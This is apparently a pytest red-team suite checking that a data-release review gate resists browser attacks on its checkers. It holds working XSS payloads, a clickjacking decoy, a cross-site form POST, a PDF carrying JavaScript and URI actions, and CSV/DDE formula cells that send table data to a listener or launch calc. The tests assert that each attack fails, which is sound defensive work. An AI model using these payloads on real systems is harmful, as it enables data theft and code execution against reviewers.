"""Red team, thirteenth round (13A): attacks on the people who review, through their browsers.

A researcher (or her workspace's code, with her tokens) writes much of what an output checker's
browser then shows: the justification, the cells of a table, a text file, a program, a notebook
(its cells and the outputs left in it), the reviews' comments. Each attack here puts markup,
script or a fetch to "another site" (a loopback listener, :mod:`redteam13_support`) in those
places, opens the pages in a real headless Chromium as the checker, and asserts that no script
ran (no global ``__pwned...``, no dialog) and that nothing was fetched from the other site; and,
over HTTP, that the gate never serves a staged file as a document, never changes a request on a
GET, and cannot be framed; and that a table's cell is never a formula the checker's spreadsheet
runs. 26 attempts and a control; 11 got through before their fix: the pages allowed frames of
their own origin, which is also the origin of every workspace's JupyterLab (now
``frame-ancestors 'none'``), and 10 formulas in a CSV's cells and headers (the ``formula`` rule; see ``test_redteam13_review_view.py`` for what a checker saw differing
from what leaves, where most of this round got through).
"""

from __future__ import annotations

import json
import time

import pytest
import requests
from disclosure_support import pdf_of
from redteam13_support import (  # noqa: F401  (fixtures)
    PWNED,
    chromium_fixture,
    gate13_fixture,
    listener_fixture,
    signed_in,
)

pytestmark = pytest.mark.timeout(180)

CLEAN = b"group,n\nA,120\nB,130\n"


def payloads(other: str, tag: str) -> str:
    """Markup a browser would act on: script, handlers, a javascript: link, and fetches (image,
    style sheet, frame, refresh, form) to ``other``; ``tag`` names where it was put."""
    return (f"<script>window.__pwned_{tag}=1</script>"
            f"<img src=\"{other}/{tag}-img\" onerror=\"window.__pwned_{tag}_img=1\">"
            f"<a id=\"js-{tag}\" href=\"javascript:window.__pwned_{tag}_link=1\">x</a>"
            f"<svg onload=\"window.__pwned_{tag}_svg=1\"></svg>"
            f"<style>@import url('{other}/{tag}-css');</style><link rel=stylesheet href=\"{other}/{tag}-link\">"
            f"<iframe src=\"{other}/{tag}-frame\"></iframe><meta http-equiv=refresh content=\"0;url={other}/{tag}-meta\">"
            f"\"'><img src=x onerror=window.__pwned_{tag}_attr=1>")


def notebook(other: str) -> bytes:
    html = payloads(other, "nbhtml")
    cells = [
        {"cell_type": "markdown", "metadata": {}, "source": [payloads(other, "nbmd")]},
        {"cell_type": "code", "metadata": {}, "execution_count": 1, "source": ["print('</span></pre>')\n"],
         "outputs": [
             {"output_type": "display_data", "metadata": {},
              "data": {"text/html": [html], "text/plain": ["<IPython.core.display.HTML object>"],
                       "application/javascript": ["window.__pwned_nbjs=1"],
                       "text/markdown": [payloads(other, "nbmarkdown")]}},
             {"output_type": "stream", "name": "stdout", "text": [payloads(other, "nbstream")]}]},
    ]
    return json.dumps({"cells": cells, "nbformat": 4, "nbformat_minor": 5,
                       "metadata": {"kernelspec": {"name": "x", "language": "html", "display_name": "x"}}}).encode()


def test_markup_from_the_researcher_never_runs_in_the_checkers_browser(gate13, listener, chromium):
    """Stored XSS into an output checker's review page, everywhere a researcher writes: the
    justification, a CSV cell and header, a Markdown and a JSON file, a program, a notebook (a
    Markdown cell, an HTML, JavaScript and Markdown output, a stream), and a co-checker's comment;
    then the checker clicks the planted ``javascript:`` links. Nothing runs, nothing is fetched."""
    other = listener.url
    cell = payloads(other, "csv").replace('"', '""')
    made = [
        gate13.submit(justification="Table 1 " + payloads(other, "just"),
                      content=f'group,"{cell}"\n"{cell}",120\nB,130\n'.encode(), name="t.csv"),
        gate13.submit(content=payloads(other, "md").encode(), name="notes.md"),
        gate13.submit(content=json.dumps({"note": payloads(other, "json")}).encode(), name="meta.json"),
        gate13.submit(content=f"# </span></pre>{payloads(other, 'py')}\nx = 1\n".encode(), name="fit.py"),
        gate13.submit(content=notebook(other), name="analysis.ipynb"),
    ]
    gate13.service.review("olga", made[0].id, {0: {"decision": "request_changes",
                                                   "comment": "fix " + payloads(other, "comment")}})
    context = signed_in(chromium, gate13, "omar")
    page = context.new_page()
    dialogs = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    try:
        for view in made:
            page.goto(gate13.base + f"requests/{view.id}", wait_until="load")
            assert page.locator("#state").inner_text()  # the page rendered, for the checker
            for link in page.locator("a[id^=js-]").all():  # a checker clicks what looks like a link
                link.click()
            page.wait_for_timeout(150)
            assert page.evaluate(PWNED) == [], view.files[0].name
        assert "nbhtml" in page.content()  # the notebook's HTML output reached the page, as text
    finally:
        context.close()
    assert dialogs == [] and listener.hits == [], (dialogs, listener.hits)


def test_links_to_the_checker_carry_no_script(gate13, listener, chromium):
    """Reflected XSS: a researcher sends the checker a link to the gate whose query or path
    carries markup (the list's filters, a page that does not exist, a request id)."""
    other = listener.url
    bad = requests.utils.quote(payloads(other, "reflect"), safe="")
    links = [f"requests?project={bad}&author={bad}&state={bad}", f"requests?show=others&per_page={bad}",
             f"requests/{bad}", f"requests/{'a' * 32}/{bad}", f"imports/new?project={bad}", bad]
    context = signed_in(chromium, gate13, "olga")
    page = context.new_page()
    try:
        for link in links:
            page.goto(gate13.base + link, wait_until="load")
            page.wait_for_timeout(50)
            assert page.evaluate(PWNED) == [], link
    finally:
        context.close()
    assert listener.hits == []


def test_another_site_cannot_frame_the_review_page(gate13, listener, chromium):
    """Clickjacking: a page of another origin frames the checker's review page under a decoy
    button. The browser must refuse to render the gate inside it."""
    view = gate13.submit(content=CLEAN)
    listener.pages["/decoy"] = (f'<iframe id="gate" src="{gate13.base}requests/{view.id}" width=800 height=600>'
                                "</iframe><button>Claim your prize</button>")
    context = signed_in(chromium, gate13, "olga")
    page = context.new_page()
    try:
        page.goto(listener.url + "/decoy", wait_until="load")
        page.wait_for_timeout(300)
        framed = [f for f in page.frames if f != page.main_frame]
        assert framed, "the decoy has its frame"
        for frame in framed:
            try:
                shown = frame.content()
            except Exception:
                shown = ""
            assert "review-form" not in shown and "Submit my review" not in shown, frame.url
    finally:
        context.close()
        listener.pages.pop("/decoy", None)
        listener.hits.clear()


def test_every_page_refuses_framing_and_sniffing(gate13):
    """Over HTTP: every page and every answer a checker's browser gets says no frame, no content
    sniffing, no script; a staged file is an attachment or an image. Got through before its fix:
    the pages allowed frames of their own origin (``frame-ancestors 'self'``, ``SAMEORIGIN``),
    which is also the origin of every workspace's JupyterLab (code a researcher writes)."""
    view = gate13.submit(content=CLEAN)
    olga = gate13.browser("olga")
    for path in ("requests", f"requests/{view.id}", "imports/new", "nothing-here", f"requests/{view.id}/files/0"):
        r = olga.get(gate13.base + path, timeout=30, allow_redirects=False)
        policy = r.headers.get("Content-Security-Policy", "")
        assert r.headers.get("X-Content-Type-Options") == "nosniff", path
        assert "frame-ancestors 'none'" in policy or "sandbox" in policy, (path, policy)
        assert r.headers.get("X-Frame-Options") == "DENY", path
        assert "object-src 'self'" not in policy, (path, policy)
        assert "script-src 'none'" in policy or "default-src 'none'" in policy, (path, policy)


@pytest.mark.parametrize("name,content", [
    ("page.md", b"<html><script>alert(1)</script>"),
    ("data.json", b'{"a": "<script>alert(1)</script>"}'),
    ("notes.txt", b"<!doctype html><script>alert(1)</script>"),
    ("run.py", b"# <script>alert(1)</script>\n"),
    ("nb.ipynb", json.dumps({"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()),
])
def test_a_staged_file_is_never_served_as_a_document(gate13, name, content):
    """The checker's "raw file" link and the API: a text, JSON, code or notebook file whose bytes
    are HTML is an attachment of type ``application/octet-stream``, never rendered inline."""
    view = gate13.submit(content=content, name=name)
    for r in (gate13.browser("olga").get(gate13.base + f"requests/{view.id}/files/0", timeout=30),
              gate13.api("olga", "GET", f"requests/{view.id}/files/0")):
        assert r.status_code == 200 and r.content == content
        assert r.headers["Content-Type"] == "application/octet-stream", name
        assert r.headers["Content-Disposition"] == f'attachment; filename="{name}"'
        assert r.headers["X-Content-Type-Options"] == "nosniff"
        assert "sandbox" in r.headers["Content-Security-Policy"]


@pytest.mark.parametrize("action", ["review", "release", "withdraw", "revoke", "submit"])
def test_a_get_never_acts_on_a_request(gate13, action):
    """CSRF by a plain link or image (``<img src=.../release>``): every action is a POST; a GET,
    HEAD or a POST without the form's token changes nothing."""
    view = gate13.submit(content=CLEAN)
    sha = view.files[0].sha256
    olga = gate13.browser("olga")
    url = gate13.base + f"requests/{view.id}/{action}?decision_0=approve&sha_0={sha}&reason=x"
    for method in ("GET", "HEAD"):
        r = olga.request(method, url, timeout=30, allow_redirects=False)
        assert r.status_code == 405, (method, action, r.status_code)
    r = olga.post(url, timeout=30, allow_redirects=False, headers={"Origin": "http://127.0.0.1:1"})
    assert r.status_code == 403, (action, r.status_code)
    after = gate13.service.get_request("olga", view.id)
    assert after.state == "submitted" and after.complete_reviews == 0 and not after.reviews


def test_the_checkers_session_is_not_sent_from_another_site(gate13, listener, chromium):
    """A form on another site posting a review in the checker's browser (a cross-site POST that
    carries the checker's cookies): refused for the missing token; nothing recorded."""
    view = gate13.submit(content=CLEAN)
    listener.pages["/post"] = (
        f'<form id=f method=post action="{gate13.base}requests/{view.id}/review">'
        f'<input name=decision_0 value=approve><input name=sha_0 value="{view.files[0].sha256}">'
        '<input name=comment_0 value=ok><input name=_xsrf value="2|00|00|00"></form>'
        "<script>document.getElementById('f').submit()</script>")
    context = signed_in(chromium, gate13, "olga")
    page = context.new_page()
    try:
        page.goto(listener.url + "/post", wait_until="load")
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline and "/post" in page.url:
            page.wait_for_timeout(50)
        assert "requests/" in page.url  # the form did post, in the checker's browser
    finally:
        context.close()
        listener.pages.pop("/post", None)
        listener.hits.clear()
    after = gate13.service.get_request("olga", view.id)
    assert after.complete_reviews == 0 and not after.reviews


def hostile_pdf(other: str) -> bytes:
    """A one-page PDF that, opened, runs JavaScript (``/OpenAction``), fetches ``other`` (a launch
    and a link annotation covering the page) and submits a form there."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /AcroForm << /Fields [] >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Contents 4 0 R /Annots [6 0 R] "
        b"/Resources << /Font << /F1 7 0 R >> >> >>",
        None,  # the page's content, below
        f"<< /S /JavaScript /JS (app.launchURL\\('{other}/pdf-js'\\); this.submitForm\\('{other}/pdf-form'\\);) "
        f"/Next << /S /URI /URI ({other}/pdf-open) >> >>".encode(),
        f"<< /Type /Annot /Subtype /Link /Rect [0 0 200 100] /A << /S /URI /URI ({other}/pdf-link) >> >>".encode(),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    stream = b"BT /F1 18 Tf 20 50 Td (n = 120) Tj ET"
    objects[3] = b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream"
    return pdf_of(objects)


def test_a_pdf_that_acts_when_the_checker_opens_it(gate13, listener):
    """The checker's "open the PDF" link serves the file inline: a PDF carrying JavaScript, an
    action on opening, a link over the whole page and a form submission, each to another site.
    The gate serves its rebuilt copy (the pages as pictures): none of them is in the bytes the
    checker opens, nor in what a release writes; the answer is sandboxed."""
    from airlock_factories import PROJECT, files

    made = gate13.service.create("alice", PROJECT, files(("fig.pdf", hostile_pdf(listener.url)), ("fig.csv", CLEAN)),
                                 "figure 1 and its table")
    r = gate13.browser("olga").get(gate13.base + f"requests/{made.id}/files/0", timeout=30)
    assert r.status_code == 200 and r.content.startswith(b"%PDF-")
    assert r.headers["Content-Type"] == "application/pdf" and "sandbox" in r.headers["Content-Security-Policy"]
    for marker in (b"/JavaScript", b"/JS", b"/URI", b"/OpenAction", b"/Annots", b"/AcroForm", b"127.0.0.1"):
        assert marker not in r.content, marker
    assert listener.hits == []


@pytest.mark.parametrize("cell", [
    '=WEBSERVICE("http://127.0.0.1:9/?"&ENCODEURL(TEXTJOIN(",",1,A1:B9)))',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd|" /C calc"!A0',
    ' =HYPERLINK("http://127.0.0.1:9/?"&A2,"see the method")',
], ids=["webservice", "dde-plus", "dde-minus", "at", "hyperlink-after-blank"])
@pytest.mark.parametrize("where", ["cell", "header"])
def test_a_csv_cell_the_checkers_spreadsheet_runs(gate13, cell, where):
    """CSV injection: a checker reads a long table in the raw file, in a spreadsheet, which runs a
    cell written as a formula: ``WEBSERVICE`` sends the table to a web site before any approval,
    a DDE link starts a program. The page shows it as text; the checks now fail it (``formula``).
    All 10 got through before the rule (the table went to review)."""
    quoted = cell.replace('"', '""')
    content = (f'group,n\n"{quoted}",120\nB,130\n' if where == "cell" else f'"{quoted}",n\nA,120\nB,130\n')
    view = gate13.submit(content=content.encode(), name="t.csv")
    failed = {f["rule"] for f in view.files[0].check.get("findings", []) if f["status"] == "fail"}
    assert "formula" in failed, view.files[0].check


def test_ordinary_labels_are_no_formula(gate13):
    """Controls: labels that start with a sign but are no formula."""
    content = 'age,n\n+65 ans,120\n- autre (préciser),130\n"-",140\n<18,150\n'.encode()
    view = gate13.submit(content=content, name="t.csv")
    assert "formula" not in {f["rule"] for f in view.files[0].check.get("findings", [])}
